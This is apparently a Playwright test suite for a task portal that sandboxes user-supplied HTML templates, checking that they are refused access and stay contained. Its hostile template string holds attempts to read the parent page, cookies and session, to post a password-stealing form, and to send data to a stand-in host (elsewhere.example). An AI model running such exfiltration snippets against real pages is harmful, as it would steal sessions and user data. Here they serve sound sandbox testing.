"""Templates are code of others: they get nothing of the person, of the portal, or of other work."""

import json
from typing import Any

import pytest
from playwright.sync_api import Response, expect

# As conftest.py of this folder gives them.
MakeFlow = MakePerson = OpenPortal = Any

# Each attempt tells what it got; "refused" is what it has to be.
HOSTILE = """
<crowd-form><input type="hidden" name="report" value="not run"></crowd-form>
<form id="post" method="post" action="/v1/session/password"><input name="password" value="stolen by a form"></form>
<script>
  const portal = "{{ task.input.portal }}";
  const other = "{{ task.input.other }}";
  const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("timeout"), 3000))]);
  const attempts = {
    parent_document: () => parent.document.body.innerHTML,
    parent_storage: () => parent.localStorage.length,
    parent_frames: () => parent.frames[0].document.title,
    top_location: () => { top.location.href = portal + "/no/such/page"; return parent.location.href; },
    frame_element: () => frameElement.ownerDocument.title,
    cookies: () => document.cookie || Promise.reject(),
    own_storage: () => localStorage.getItem("loupe.welcomed") ?? Promise.reject(),
    indexed_db: () => indexedDB.open("loupe-drafts") && "opened",
    session: () => fetch("/v1/session").then((answer) => answer.text()),
    session_with_cookie: () =>
      fetch(portal + "/v1/session", { credentials: "include" }).then((answer) => answer.text()),
    session_blind: () => fetch(portal + "/v1/session", { mode: "no-cors" }).then(() => "sent"),
    other_frame: () => fetch(other).then((answer) => answer.text()),
    request: () => new Promise((yes, no) => {
      const request = new XMLHttpRequest();
      request.open("GET", portal + "/v1/work/held");
      request.onload = () => yes(request.responseText);
      request.onerror = no;
      request.send();
    }),
    elsewhere: () => fetch("https://elsewhere.example/?stolen").then(() => "sent"),
    picture: () => new Promise((yes, no) => {
      const picture = new Image();
      picture.onload = yes;
      picture.onerror = no;
      picture.src = "https://elsewhere.example/stolen.png";
    }),
    beacon: () => new Promise((yes, no) => {
      addEventListener("securitypolicyviolation", (event) => event.blockedURI.includes("beacon") && no());
      navigator.sendBeacon(portal + "/beacon", "stolen");
    }),
    socket: () => new Promise((yes, no) => {
      const socket = new WebSocket("wss://elsewhere.example/");
      socket.onopen = yes;
      socket.onerror = no;
    }),
    module: () => import(portal + "/assets/index.js"),
    evaluate: () => new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))) && Promise.reject(),
    window: () => open(portal + "/") ?? Promise.reject(),
    service_worker: () => navigator.serviceWorker.register("/static/crowd/crowd-html-elements.js"),
    inner_frame: () => new Promise((yes, no) => {
      const inner = document.createElement("iframe");
      addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "frame-src" && no());
      inner.src = other;
      document.body.append(inner);
    }),
    form: () => new Promise((yes, no) => {
      addEventListener("securitypolicyviolation", (event) => event.effectiveDirective === "form-action" && no());
      document.getElementById("post").submit();
    }),
  };
  document.addEventListener("all-crowd-elements-ready", async () => {
    const report = {};
    for (const [name, attempt] of Object.entries(attempts)) {
      try {
        const got = await soon(Promise.resolve().then(attempt));
        report[name] = `got ${String(got).slice(0, 80)}`;
      } catch (error) {
        report[name] = error === "timeout" ? "nothing happened" : "refused";
      }
    }
    document.querySelector("[name=report]").value = JSON.stringify(report);
    document.querySelector("crowd-form").submit();
  });
</script>
"""


def test_a_hostile_template_gets_nothing(
    make_flow: MakeFlow, make_person: MakePerson, open_portal: OpenPortal, page_problems: Any
) -> None:
    page_problems.expect(".")
    bystander = make_flow()
    bystander.start(text="somebody else's work")
    holder = open_portal(make_person(bystander.team))
    holder.start(bystander.title)
    other_frame = next(frame.url for frame in holder.page.frames if "/frame/" in frame.url)

    flow = make_flow(HOSTILE)
    loop = flow.start(portal=flow.site.endpoints.portal, other=other_frame)
    portal = open_portal(make_person(flow.team))
    answered: list[str] = []

    def note(response: Response) -> None:
        if response.frame.parent_frame is not None:
            answered.append(response.url)

    # Not "request": that also tells of what the browser blocked before it was sent.
    portal.context.on("response", note)
    portal.page.get_by_role("button", name=f"Start {flow.title}").click()
    portal.my_work()

    report = json.loads(flow.answer(loop)["report"])
    assert {name: result for name, result in report.items() if result != "refused"} == {}
    own = (f"{flow.site.endpoints.portal}/frame/", f"{flow.site.endpoints.portal}/static/crowd/", "blob:")
    assert [url for url in answered if not url.startswith(own)] == []
    assert other_frame not in answered
    assert len(portal.context.pages) == 1


def test_a_frames_address_opened_by_itself_is_as_powerless(
    make_flow: MakeFlow, make_person: MakePerson, open_portal: OpenPortal, page_problems: Any
) -> None:
    page_problems.expect("401")
    flow = make_flow(
        "<crowd-form></crowd-form><script>addEventListener('load', () => { document.title = origin })</script>"
    )
    flow.start(text="")
    flow.start(text="")
    person = make_person(flow.team)
    portal = open_portal(person)
    portal.page.get_by_role("button", name=f"Start {flow.title}").click()
    address = portal.page.locator("iframe").get_attribute("src") or ""

    page = portal.context.new_page()
    page.goto(address)
    expect(page).to_have_title("null")
    refused = portal.context.request.get(address.replace("t=", "t=x"))
    assert refused.status == 401
    assert "set-cookie" not in portal.context.request.get(address).headers


def test_a_template_that_leaves_its_page_is_stopped_and_said(
    make_flow: MakeFlow, make_person: MakePerson, open_portal: OpenPortal, page_problems: Any
) -> None:
    page_problems.expect(".")
    flow = make_flow(
        "<crowd-form><crowd-button id='away'>Away</crowd-button></crowd-form><script>"
        "document.getElementById('away').addEventListener('click', () => { location.href = '{{ task.input.away }}' })"
        "</script>"
    )
    flow.start(away="https://elsewhere.example/?stolen")
    portal = open_portal(make_person(flow.team))
    asked: list[str] = []
    portal.context.on("request", lambda request: asked.append(request.url))
    portal.start(flow.title)
    portal.frame.get_by_role("button", name="Away").click()

    expect(portal.page.get_by_role("alert").filter(has_text="The template left its page").first).to_be_visible()
    assert [url for url in asked if "elsewhere.example" in url] == []


@pytest.mark.parametrize(
    "script",
    ["while (true) {}", "document.addEventListener('all-crowd-elements-ready', () => { while (true) {} })"],
    ids=["while it loads", "when it is ready"],
)
def test_a_template_that_loops_for_ever_leaves_the_portal_usable(
    script: str, make_flow: MakeFlow, make_person: MakePerson, open_portal: OpenPortal
) -> None:
    flow = make_flow(f"<crowd-form><crowd-input name='a'></crowd-input></crowd-form><script>{script}</script>")
    flow.start(text="")
    portal = open_portal(make_person(flow.team))
    portal.page.get_by_role("button", name=f"Start {flow.title}").click()
    expect(portal.page.get_by_role("heading", level=1, name=flow.title)).to_be_visible()

    expect(portal.page.get_by_text("The template does not get ready.")).to_be_visible()
    expect(portal.submit).to_be_disabled()
    portal.page.get_by_role("button", name="Release task").click()
    portal.dialog.get_by_role("button", name="Release task").click()
    portal.my_work()
    expect(portal.page.get_by_role("button", name=f"Start {flow.title}")).to_be_enabled()


def test_a_template_cannot_flood_the_portal(
    make_flow: MakeFlow, make_person: MakePerson, open_portal: OpenPortal, page_problems: Any
) -> None:
    page_problems.expect("flood")
    flow = make_flow(
        "<crowd-form><input name='a' aria-label='A'></crowd-form><script>"
        "document.addEventListener('all-crowd-elements-ready', () => "
        "setInterval(() => { for (let i = 0; i < 50; i++) "
        "dispatchEvent(new ErrorEvent('error', {message: 'flood ' + i})) }, 100))"
        "</script>"
    )
    loop = flow.start(text="")
    portal = open_portal(make_person(flow.team))
    portal.start(flow.title)
    expect(portal.page.get_by_role("alert").filter(has_text="flood").first).to_be_visible()
    portal.frame.get_by_label("A").fill("still here")
    portal.submit.click()
    portal.my_work()
    assert flow.answer(loop) == {"a": "still here"}
